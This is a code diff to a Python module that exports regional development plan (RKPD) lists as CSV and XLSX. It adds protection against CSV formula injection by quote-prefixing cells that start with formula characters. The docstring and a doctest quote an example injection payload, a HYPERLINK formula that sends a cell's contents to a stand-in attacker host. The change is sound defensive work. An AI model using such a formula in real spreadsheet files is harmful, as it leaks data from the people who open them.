@@ -4,6 +4,21 @@ page and the JSON, so the three never disagree.
 Both are deterministic: the same list gives the same bytes (no generation time anywhere; the XLSX's
 document dates are the adoption time, or a fixed date for a draft), so a file can be checked against
 another download or against a published hash. Neither carries personal data: `RkpdOut` has none.
+
+Neither carries a formula either, whatever an agency typed (CSV or formula injection: a program named
+`=HYPERLINK("http://evil.example/?x="&A1,"Klik")` would otherwise run in the official's spreadsheet).
+Every CSV the platform writes passes its cells through `spreadsheet_cell` (OWASP's advice: a text that
+starts with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`); numbers stay numbers. The
+XLSX writes texts with `write_string` only, a string cell that no spreadsheet evaluates, and marks the
+same texts "quote prefix" (what Excel records for a typed `'`), so editing such a cell keeps it text.
+
+The one other `;`/`,`-separated file the platform writes, the Pabulib export (`musrenbang pabulib export`,
+musrenbang/pabulib.py), is left exactly as it is on purpose: it is not a spreadsheet download but a data
+file in a published format, written by an operator's command (never served over HTTP) for pabutools and
+`pabulib import --check` to recompute a forum's result. A quote added there would change what those
+tools read: project names, and ids (delegate and item ids may start with `-`) that the vote lists refer
+to, so the recomputation would no longer match. Whoever opens a `.pb` in a spreadsheet goes through a
+text-import dialog; that is where to keep its columns as text.
 """
 
 from __future__ import annotations
@@ -11,6 +26,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import re
 from decimal import Decimal
 
 import xlsxwriter
@@ -24,8 +40,29 @@ COLUMNS = (
     "No", "Kode Sub Kegiatan", "Program", "Kegiatan", "Sub Kegiatan", "Indikator Keluaran", "Target", "Satuan",
     "Lokasi", "Volume", "Satuan", "Pagu", "Sumber Dana", "Perangkat Daerah", "Prioritas Daerah", "Usulan asal",
 )  # fmt: skip
+NUMERIC = frozenset({0, 6, 9, 11})
+"""No, Target, Volume, Pagu: numbers in both files (a number written as text there stays as it is)."""
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 CSV_TYPE = "text/csv; charset=utf-8"
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+"""What makes a spreadsheet read a cell as a formula (OWASP, CSV Injection)."""
+_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+
+
+def spreadsheet_cell(value: str | int, *, numeric: bool = False) -> str | int:
+    """One cell of a CSV made safe to open in a spreadsheet (OWASP's advice against CSV injection): a text
+    that starts with `=`, `+`, `-`, `@`, tab or carriage return gets a leading single quote, so that it is
+    shown as text and never evaluated. Numbers are left alone, and so, in a `numeric` column, is a plain
+    number written as text ("-2.5"): a negative number stays a number.
+
+        >>> spreadsheet_cell('=HYPERLINK("http://evil.example/?x="&A1,"Klik")')
+        '\\'=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
+        >>> spreadsheet_cell(-5), spreadsheet_cell("-2.5", numeric=True), spreadsheet_cell("-2.5")
+        (-5, '-2.5', "'-2.5")
+    """
+    if not isinstance(value, str) or (numeric and _PLAIN_NUMBER.fullmatch(value)):
+        return value
+    return "'" + value if value.startswith(FORMULA_START) else value
 
 
 def row(item: RkpdItemOut) -> list[str | int]:
@@ -48,8 +85,8 @@ def to_csv(rkpd: RkpdOut) -> bytes:
     """RFC 4180 (comma, CRLF), UTF-8 with a byte-order mark so that spreadsheet programs read it as UTF-8."""
     out = io.StringIO()
     writer = csv.writer(out, lineterminator="\r\n")
-    writer.writerow(COLUMNS)
-    writer.writerows(row(i) for i in rkpd.items)
+    for values in (COLUMNS, *(row(i) for i in rkpd.items)):
+        writer.writerow([spreadsheet_cell(v, numeric=c in NUMERIC) for c, v in enumerate(values)])
     return ("\ufeff" + out.getvalue()).encode()
 
 
@@ -77,7 +114,13 @@ def to_xlsx(rkpd: RkpdOut) -> bytes:
                          "comments": f"Kepala log: {rkpd.head.hash}" if rkpd.head else ""})  # fmt: skip
     bold = book.add_format({"bold": True, "text_wrap": True, "valign": "top"})
     money = book.add_format({"num_format": "#,##0"})
+    quoted = book.add_format({"quote_prefix": True})  # in the file only where a cell uses it
     sheet = book.add_worksheet(f"RKPD {rkpd.year}")
+
+    def text(n: int, c: int, value: str) -> None:
+        """A string cell (never a formula); marked quote-prefixed when it looks like one."""
+        sheet.write_string(n, c, value, quoted if value.startswith(FORMULA_START) else None)
+
     sheet.write_row(0, 0, COLUMNS, bold)
     sheet.freeze_panes(1, 0)
     for width, columns in ((5, "A:A"), (22, "B:B"), (30, "C:F"), (10, "G:H"), (28, "I:I"), (10, "J:K"),
@@ -90,11 +133,14 @@ def to_xlsx(rkpd: RkpdOut) -> bytes:
                 sheet.write_number(n, c, value, money)
             elif c in (6, 9):  # Target, Volume
                 cell = _number(str(value))
-                (sheet.write_number if not isinstance(cell, str) else sheet.write_string)(n, c, cell)
+                if isinstance(cell, str):
+                    text(n, c, cell)
+                else:
+                    sheet.write_number(n, c, cell)
             elif isinstance(value, int):
                 sheet.write_number(n, c, value)
             else:
-                sheet.write_string(n, c, value)
+                text(n, c, value)
     about = book.add_worksheet("Keterangan")
     facts = [("Tahun", str(rkpd.year)), ("Status", state), ("Jumlah baris", str(len(rkpd.items))),
              ("Jumlah pagu", str(rkpd.total_pagu))]  # fmt: skip
